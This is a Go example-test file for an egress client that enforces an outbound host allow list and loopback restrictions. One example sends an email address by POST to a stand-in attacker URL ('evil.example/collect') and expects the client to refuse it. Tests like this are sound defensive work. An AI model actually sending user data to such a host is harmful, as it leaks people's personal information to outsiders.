package egress_test

import (
	"context"
	"fmt"

	"github.com/usherhost/usher/host"
	"github.com/usherhost/usher/host/egress"
)

func ExampleClient_Send() {
	client := &egress.Client{}
	defer client.Close()
	_, failure := client.Send(context.Background(), &host.HTTPRequest{
		Method:      "POST",
		URL:         "https://evil.example/collect",
		Body:        []byte("ada@example.com"),
		MaxRequests: 1,
		Egress:      host.Egress{Allow: []string{"hooks.slack.com"}},
	})
	fmt.Println(failure.Code)
	fmt.Println(failure)
	// Output:
	// refused
	// https://evil.example is not in the allowed hosts (allowed: https://hooks.slack.com)
}

func ExampleClient_Explain() {
	client := &egress.Client{}
	defer client.Close()
	fmt.Print(client.Explain(context.Background(), host.Egress{Mode: host.EgressPublic}, "http://127.0.0.1:9200/_search"))
	// Output:
	// http://127.0.0.1:9200/_search is not allowed: http://127.0.0.1:9200 is a loopback address, which guests reach only if the operator allows the network 127.0.0.1/32
	//   127.0.0.1: refused, loopback address (the operator can allow 127.0.0.1/32)
}
